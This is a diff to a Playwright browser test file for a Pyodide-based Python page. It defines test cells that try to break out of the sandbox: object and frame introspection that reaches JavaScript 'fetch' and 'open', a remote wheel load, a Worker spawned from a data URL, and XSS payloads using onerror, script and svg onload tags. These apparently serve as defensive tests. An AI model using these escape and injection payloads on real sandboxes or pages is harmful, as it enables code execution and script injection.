@@ -13,6 +13,7 @@ from playwright.sync_api import Page, expect
 
 from tests.browser.whygrad_page import PATIENCE, answered, editor, open_page, write
 
+KEEPS = True  # the service worker is one of the doors
 # Climbing from any object to every class, and from a class to the module that it came from.
 CLIMB = """
 def climb(name):
@@ -63,10 +64,12 @@ CELLS = {
     + "climb('_pyodide_core')\np = climb('pyodide_js').loadPackage('https://elsewhere.invalid/x.whl')\nprint('done')",
     "another thread by way of a class": CLIMB + "climb('js').Worker.new('data:,1')\nprint('REACHED')",
     "a frame": "try:\n    1/0\nexcept ZeroDivisionError as e:\n    f = e.__traceback__.tb_frame\n"
-    "while f.f_back: f = f.f_back\nf.f_globals['__builtins__'].open\nf.f_builtins['__import__']('js').fetch\nprint('REACHED')",
+    "while f.f_back: f = f.f_back\nf.f_globals['__builtins__'].open\n"
+    "f.f_builtins['__import__']('js').fetch\nprint('REACHED')",
     "a string's format": "print('{0.__class__.__base__.__subclasses__}'.format(1)[:0] or 'done')",
     "the page from what is printed": "print('<img src=x onerror=alert(1)><script>alert(2)</script>')",
-    "the page from a name": "import torch\nx = torch.tensor(1., requires_grad=True)\n(x*x).backward()\nprint(f'<svg onload=alert(1)>{x.grad}')",
+    "the page from a name": "import torch\nx = torch.tensor(1., requires_grad=True)\n(x*x).backward()\n"
+    "print(f'<svg onload=alert(1)>{x.grad}')",
 }
 
 
